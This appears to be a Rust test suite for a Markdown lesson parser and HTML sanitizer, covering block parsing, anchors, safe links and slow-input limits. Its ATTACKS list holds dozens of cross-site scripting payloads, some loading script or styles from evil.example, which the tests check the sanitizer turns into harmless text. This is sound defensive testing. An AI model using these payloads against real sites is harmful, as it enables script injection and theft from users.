//! Markdown: what it becomes, and what it cannot become.

use packs::lesson::{Heading, LessonBlock, parse, safe_html};
use proptest::prelude::*;
use std::time::{Duration, Instant};

fn code(block: &LessonBlock) -> (&str, &str, bool, &str, bool) {
    match block {
        LessonBlock::Code { source, language, runnable, stdin, expects_error } => (source, language, *runnable, stdin, *expects_error),
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_lesson_becomes_blocks_in_order() {
    let text = "## One\n\nSome *text*.\n\n```python run stdin=\"Ada\\n12\"\nprint(input())\n```\n\n```python\nx = 1\n```\n\n```text\nout\n```\n\n```\nplain\n```\n\n\
                ```python run error\n1 / 0\n```\n\n````question\nWhat is `a -- b`?\n\n```python\na = 1\n```\n- [ ] `x -- y` -- *No*.\n- [x] two\n  lines -- Yes: <b>\n- [ ] \
                none\n````\n\nEnd.\n";
    let lesson = parse(text);
    let kinds: Vec<_> = lesson
        .blocks
        .iter()
        .map(|block| match block {
            LessonBlock::Prose { .. } => 'p',
            LessonBlock::Code { .. } => 'c',
            LessonBlock::Question { .. } => 'q',
        })
        .collect();
    assert_eq!(String::from_iter(kinds), "pcccccqp");
    assert_eq!(lesson.blocks[0], LessonBlock::Prose { html: "<h2 id=\"section-one\">One</h2>\n<p>Some <em>text</em>.</p>\n".into() });
    assert_eq!(code(&lesson.blocks[1]), ("print(input())\n", "python", true, "Ada\n12", false));
    assert_eq!(code(&lesson.blocks[2]), ("x = 1\n", "python", false, "", false));
    assert_eq!(code(&lesson.blocks[3]), ("out\n", "text", false, "", false));
    assert_eq!(code(&lesson.blocks[4]), ("plain\n", "text", false, "", false));
    assert_eq!(code(&lesson.blocks[5]), ("1 / 0\n", "python", true, "", true));
    let LessonBlock::Question { prompt_html, answers } = &lesson.blocks[6] else { panic!() };
    assert_eq!(prompt_html, "<p>What is <code>a -- b</code>?</p>\n<pre><code class=\"language-python\">a = 1\n</code></pre>\n");
    let answers: Vec<_> = answers.iter().map(|answer| (answer.html.as_str(), answer.right, answer.because_html.as_str())).collect();
    assert_eq!(answers, [("<code>x -- y</code>", false, "<em>No</em>."), ("two\nlines", true, "Yes: &lt;b&gt;"), ("none", false, "")]);
}

#[test]
fn the_input_of_a_program_is_written_with_escapes() {
    let stdin = |info: &str| code(&parse(&format!("```python run {info}\n```\n")).blocks[0]).3.to_owned();
    assert_eq!(stdin(r#"stdin="say \"hi\" \\ \t|\x &amp; \*""#), "say \"hi\" \\ \t|\\x &amp; \\*");
    assert_eq!(stdin("stdin=7"), "7");
    assert_eq!(stdin("stdin=\"\""), "");
    assert_eq!(stdin("stdin=\"open"), "open");
    assert_eq!(stdin("stdin=\"ends\\"), "ends\\");
}

#[test]
fn a_question_that_is_none_is_shown_as_it_stands() {
    assert_eq!(code(&parse("```question\nWhat?\n```\n").blocks[0]), ("What?\n", "text", false, "", false));
}

#[test]
fn headings_have_anchors_of_their_own() {
    let lesson = parse("## A & *b*\n\n### Straße 2\n\n## A b\n\n## A b 2\n\n## …\n\n> ## A b\n\n[up](#a-b) [out](other.md)\n");
    let anchors: Vec<_> = lesson.headings.iter().map(|heading| heading.anchor.as_str()).collect();
    assert_eq!(anchors, ["section-a-b", "section-straße-2", "section-a-b-2", "section-a-b-2-2", "section", "section-a-b-3"]);
    assert_eq!(lesson.headings[0], Heading { level: 2, text: "A & b".into(), anchor: "section-a-b".into() });
    let LessonBlock::Prose { html } = &lesson.blocks[0] else { panic!() };
    for anchor in anchors {
        assert_eq!(html.matches(&format!("id=\"{anchor}\"")).count(), usize::from(anchor != "section"), "{anchor}");
    }
    assert!(html.contains("<a href=\"#section-a-b\" rel=\"noopener noreferrer\">up</a>"), "{html}");
    assert!(html.contains("<a rel=\"noopener noreferrer\">out</a>"), "{html}");
}

#[test]
fn tables_callouts_and_code_keep_their_form() {
    let html = safe_html("| a | b |\n|:--|--:|\n| 1 | ~~2~~ |\n\n> [!WARNING]\n> Careful.\n\n3. three\n\n```python\nx < 1\n```\n");
    assert!(html.contains("<th align=\"left\">a</th>") && html.contains("<td align=\"right\"><del>2</del></td>"), "{html}");
    assert!(html.contains("<div class=\"markdown-alert markdown-alert-warning\">\n<p class=\"markdown-alert-title\">Warning</p>"), "{html}");
    assert!(html.contains("<ol start=\"3\">"), "{html}");
    assert!(html.contains("<pre><code class=\"language-python\">x &lt; 1\n</code></pre>"), "{html}");
}

#[test]
fn links_lead_out_safely_and_pictures_are_not_loaded() {
    assert_eq!(safe_html("[a](https://example.org \"t\")"), "<p><a href=\"https://example.org\" title=\"t\" rel=\"noopener noreferrer\">a</a></p>\n");
    assert_eq!(safe_html("<me@example.org>"), "<p><a href=\"mailto:me@example.org\" rel=\"noopener noreferrer\">me@example.org</a></p>\n");
    assert_eq!(
        safe_html("![a *cat*](https://example.org/cat.png)"),
        "<p><a href=\"https://example.org/cat.png\" rel=\"noopener noreferrer\">a <em>cat</em></a></p>\n"
    );
    for address in [
        "file:///etc/passwd",
        "/etc/passwd",
        "//example.org",
        "other.html",
        "tauri://localhost",
        "asset://localhost/x",
        "ftp://example.org",
        "ipc://x",
    ] {
        assert_eq!(safe_html(&format!("[a]({address})")), "<p><a rel=\"noopener noreferrer\">a</a></p>\n", "{address}");
    }
}

/// Attacks, most of them from the usual collections: each must end as text.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://example.org\" onclick=alert(1)>x</a>",
    "<a href=\"https://example.org\" target=_blank rel=opener>x</a>",
    "<div id=app class=\"modal\" data-x=y>x</div>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<portal src=https://evil.example>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&NewLine;javascript:alert(1))",
    "[x](&Tab;java&Tab;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.org/x.png)",
    "[x](https://example.org \"\\\" onclick=\\\"alert(1)\")",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://example.org/\"onclick=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```python\"onmouseover=\"alert(1)\ncode\n```",
    "```html\n<script>alert(1)</script>\n```",
    "## <img src=x onerror=alert(1)> \"onclick=alert(1)",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "> [!NOTE\" onclick=\"alert(1)]\n> x",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html '<script>alert(1)</script>'}",
    "\u{0}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
];

/// The elements and attributes that may come out, found by reading the HTML itself and not by asking the cleaner.
fn assert_harmless(html: &str, from: &str) {
    const ELEMENTS: &[&str] = &[
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "blockquote",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "hr",
        "br",
        "div",
    ];
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap_or_else(|| panic!("{from:?} leaves a tag open: {html}"));
        let tag = rest[..end].trim_start_matches('/');
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.contains(&name), "{from:?} becomes <{name}>: {html}");
        while let Some((attribute, after)) = attributes.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("{from:?}: {html}"));
            let fine = match attribute.trim() {
                "href" => ["http://", "https://", "mailto:", "#"].iter().any(|scheme| value.starts_with(scheme)),
                "rel" => value == "noopener noreferrer",
                "id" => value.starts_with("section"),
                "class" => value.starts_with("language-") || value.split(' ').all(|class| class.starts_with("markdown-alert")),
                "title" | "start" | "align" => true,
                _ => false,
            };
            assert!(fine, "{from:?} keeps {attribute}={value:?}: {html}");
            attributes = after;
        }
        assert!(attributes.trim().is_empty(), "{from:?} keeps {attributes:?}: {html}");
        rest = &rest[end + 1..];
    }
}

fn all_html(markdown: &str) -> Vec<String> {
    let mut pieces = vec![safe_html(markdown)];
    for block in parse(markdown).blocks {
        match block {
            LessonBlock::Prose { html } => pieces.push(html),
            LessonBlock::Question { prompt_html, answers } => {
                pieces.push(prompt_html);
                pieces.extend(answers.into_iter().flat_map(|answer| [answer.html, answer.because_html]));
            }
            LessonBlock::Code { language, .. } => {
                assert!(language.chars().all(|character| character.is_ascii_alphanumeric() || "+#-_.".contains(character)))
            }
        }
    }
    pieces
}

#[test]
fn attacks_end_as_text() {
    for attack in ATTACKS {
        let inline = attack.replace('\n', " ");
        let places = [
            (*attack).to_owned(),
            format!("Text {attack} text"),
            format!("- {attack}\n- item"),
            format!("> {attack}\n"),
            format!("<div>\n\n{attack}\n\n</div>"),
            format!("**{inline}**"),
            format!("## {inline}"),
            format!("| a |\n|---|\n| {inline} |"),
            format!("[{inline}](https://example.org)"),
            format!("````question\nWhat {inline}?\n- [x] {inline} -- {inline}\n- [ ] {inline} -- b\n````\n"),
        ];
        for place in places {
            for html in all_html(&place) {
                assert_harmless(&html, &place);
            }
        }
    }
}

#[test]
fn html_is_shown_as_text() {
    assert_eq!(safe_html("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n");
    assert!(safe_html("<div>\nx\n</div>").contains("&lt;div&gt;\nx\n&lt;/div&gt;"));
}

#[test]
fn text_made_to_be_slow_is_not() {
    const LENGTH: usize = packs::limits::MAX_LESSON_BYTES;
    let quotes = format!("{}\n\n", ">".repeat(200));
    for piece in [
        ">",
        "*",
        "_",
        "[",
        "![",
        "](",
        "`",
        "- ",
        "1. ",
        "<",
        "&",
        "|",
        "~~~\n",
        "**a ",
        "[a](",
        "> - ",
        "- >",
        "a|b\n-|-\n",
        "# a\n",
        "<!--",
        "\\",
        "\t",
        "~",
        "``` ",
        ":-",
        "[a]: b\n",
        "<a",
        "<?",
        "a\n\n",
        &quotes,
    ] {
        let text = piece.repeat(LENGTH / piece.len());
        let before = Instant::now();
        for html in all_html(&text) {
            assert_harmless(&html, piece);
        }
        // Each takes well below a second; what grows by the square takes minutes.
        assert!(before.elapsed() < Duration::from_secs(20), "{piece:?}: {:?}", before.elapsed());
    }
}

proptest! {
    #[test]
    fn whatever_is_put_together_is_harmless(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned), Just("\n\n".to_owned()), Just("<".to_owned()), Just("\"".to_owned()), Just("```".to_owned()),
        Just("](".to_owned()), Just("> ".to_owned()), "\\PC{0,8}",
    ], 1..6)) {
        let text = parts.concat();
        for html in all_html(&text) {
            assert_harmless(&html, &text);
        }
    }
}
